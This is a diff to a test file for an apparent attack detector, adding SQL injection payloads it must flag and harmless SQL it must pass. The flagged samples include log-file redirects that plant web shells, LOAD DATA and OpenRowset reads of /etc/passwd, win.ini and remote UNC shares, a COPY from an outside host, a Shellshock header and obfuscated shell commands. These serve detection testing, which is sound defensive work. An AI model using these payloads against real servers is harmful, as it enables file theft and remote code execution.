@@ -1737,6 +1737,8 @@ t.test('twenty-sixth round (documents on this machine): a system file named insi
 t.test("twenty-sixth round (the fourteenth part, spent): a database server's own means, PostgreSQL's COPY of listed columns, Shellshock, an empty expansion inside a word", async (t) => {
   for (const p of [
     "SET global general_log_file='C:/phpStudy/WWW/cmd.php';",
+    "LOAD DATA LOCAL INFILE '\\\\\\\\172.16.136.153\\\\test' into table mysql.test",
+    "LOAD DATA LOCAL INFILE 'phar://test.phar/test' INTO TABLE a",
     'set GLOBAL slow_query_log_file=\'/var/www/html/shell.php\';',
     "LOAD DATA LOCAL INFILE '/etc/passwd' INTO TABLE a",
     "select x from OpenRowset(BULK 'C:\\Windows\\win.ini',SINGLE_CLOB) R(x)",
@@ -1752,7 +1754,7 @@ t.test("twenty-sixth round (the fourteenth part, spent): a database server's own
     '1=(select name from master.dbo.sysdatabases where dbid=5)',
     "'||;COPY users(names) FROM '\\\\xpto.example.com\\';||'",
   ]) t.ok(q(p).includes('sqli'), p)
-  for (const p of ['the general log of the server', 'load data from the file', 'Copy the text from the page', 'all users from the team', 'select a role from the list']) t.same(q(p), [], p)
+  for (const p of ['the general log of the server', 'load data from the file', 'Copy the text from the page', 'all users from the team', 'select a role from the list', "SET GLOBAL general_log = 'ON';", "SET GLOBAL general_log_file = '/var/log/mysql/query.log';", "LOAD DATA INFILE '/tmp/pets.csv' INTO TABLE pet FIELDS TERMINATED BY ','"]) t.same(q(p), [], p)
   t.ok(header('referer', '() { _; } >_[$($())] { touch /tmp/x; }').includes('rce'), 'Shellshock opening on another no-op')
   t.ok(q('cat fl${x}ag').includes('rce'), 'an unset variable inside a word')
   t.ok(q('cat tes$(z)t/flag').includes('rce'), 'an empty substitution inside a word')
